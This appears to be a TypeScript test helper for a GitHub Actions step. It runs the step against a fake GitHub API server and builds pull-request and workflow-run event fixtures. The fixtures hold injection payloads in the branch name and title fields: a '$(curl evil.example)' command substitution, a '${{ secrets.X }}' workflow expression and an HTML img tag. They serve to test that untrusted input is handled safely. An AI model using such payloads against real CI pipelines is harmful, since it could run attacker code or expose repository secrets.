// A step with the files and variables of a real one, over a server that speaks GitHub's API.
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { runStep } from '../step.ts';
import type { Env } from '../step.ts';
import { startForge } from './server.ts';
import type { Forge } from './forge.ts';

const main = fileURLToPath(new URL('../main.ts', import.meta.url));

/** The commits of the pull request. */
export const [head, base, merge] = ['c', 'b', 'a'].map((digit) => digit.repeat(40)) as [
  string,
  string,
  string,
];

/** How a step ended. */
export interface Ended {
  readonly code: number | null;
  readonly out: string;
  readonly err: string;
  readonly outputs: string;
}

type Run = (command: string, env: Env) => Promise<Omit<Ended, 'outputs'>>;

const here: Run = (command, env) =>
  runStep([command], env).then(
    (out) => ({ code: 0, out: `${out}\n`, err: '' }),
    (error: Error) => ({ code: 1, out: '', err: `refused: ${error.message}\n` }),
  );

/** The step as a process of its own, as a workflow starts it. */
export const asProcess: Run = async (command, env) => {
  const child = spawn(process.execPath, [main, command], { env });
  const code = new Promise<number | null>((resolve) => child.on('close', resolve));
  const [out, err] = await Promise.all([text(child.stdout), text(child.stderr)]);
  return { code: await code, out, err };
};

/** Starts one step over a forge, in this process unless told otherwise. */
export async function step(
  forge: Forge,
  command: string,
  event: unknown,
  { env = {}, run = here }: { readonly env?: Env; readonly run?: Run } = {},
): Promise<Ended> {
  const server = await startForge(forge);
  const scratch = mkdtempSync(join(tmpdir(), 'kernel-ladder-github-'));
  const [eventFile, outputFile] = [join(scratch, 'event.json'), join(scratch, 'output.txt')];
  writeFileSync(eventFile, JSON.stringify(event));
  writeFileSync(outputFile, '');
  const ended = await run(command, {
    PATH: process.env['PATH'],
    GITHUB_API_URL: server.url,
    GITHUB_TOKEN: 'secret-token',
    GITHUB_REPOSITORY: 'o/r',
    GITHUB_EVENT_PATH: eventFile,
    GITHUB_OUTPUT: outputFile,
    GITHUB_TRIGGERING_ACTOR: 'maintainer',
    API_PAUSE_MS: '1',
    ...env,
  });
  await server.stop();
  const outputs = readFileSync(outputFile, 'utf8');
  rmSync(scratch, { recursive: true, force: true });
  return { ...ended, outputs };
}

/** A label that somebody has put on a commit. */
export const labelled = (login = 'maintainer', sha = head) => ({
  action: 'labeled',
  label: { name: 'bench' },
  sender: { login },
  repository: { private: false },
  pull_request: {
    number: 12,
    base: { ref: 'main' },
    head: { sha, ref: '$(curl evil.example)`x`' },
    title: '${{ secrets.X }}',
  },
});

/** A GPU job that has ended. */
export const ran = (traits: Record<string, unknown> = {}) => ({
  action: 'completed',
  workflow_run: {
    id: 77,
    path: '.github/workflows/pull-request.yml',
    event: 'pull_request_target',
    display_title: `bench #12 at ${head}`,
    html_url: 'https://github.com/o/r/actions/runs/77',
    conclusion: 'success',
    run_started_at: '2026-11-01T12:00:00Z',
    head_branch: '`@octocat`<img src=x>',
    ...traits,
  },
});
